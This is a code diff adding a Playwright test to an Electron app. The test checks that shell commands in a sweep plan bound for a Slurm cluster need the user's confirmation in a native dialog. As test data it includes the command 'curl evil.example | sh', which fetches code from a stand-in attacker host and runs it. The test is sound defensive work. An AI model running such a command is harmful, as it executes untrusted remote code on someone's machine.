@@ -238,6 +238,25 @@ test('parameters of every public method, fuzzed through the bridge, are answered
   test.info().annotations.push({ type: 'tried', description: `${methods.length} methods, 5 sets of parameters each` }); // prettier-ignore
 });
 
+test('lines of shell are handed to a cluster only when the person says yes outside of the window', async ({
+  gardenpath: { app, page },
+}) => {
+  await app.evaluate(({ dialog }) => {
+    const asked: string[] = [];
+    Object.assign(globalThis, { asked });
+    dialog.showMessageBox = (...args: unknown[]) => {
+      const { detail = '' } = args.at(-1) as { detail?: string };
+      asked.push(detail);
+      return Promise.resolve({ response: 1, checkboxChecked: false });
+    };
+  });
+  const resources = { before: ['curl evil.example | sh'], ssh: { host: 'there', folder: '/x', gardenpath: 'gardenpath' } }; // prettier-ignore
+  const plan = { name: 'theirs', corpus: 'embedded', resources };
+  expect(await call(page, 'sweeps.start', { plan, place: 'slurm' })).toMatchObject({ ok: false, error: { code: 'cancelled' } }); // prettier-ignore
+  const asked = await app.evaluate(() => (globalThis as unknown as { asked: string[] }).asked);
+  expect(asked).toEqual([expect.stringMatching(/On there\..*curl evil\.example \| sh/s)]);
+});
+
 test('a page that is not ours is not heard', async ({ gardenpath: { app } }) => {
   const reply = await app.evaluate(async ({ app, BrowserWindow }) => {
     const preload = `${app.getAppPath()}/out/preload/index.cjs`;
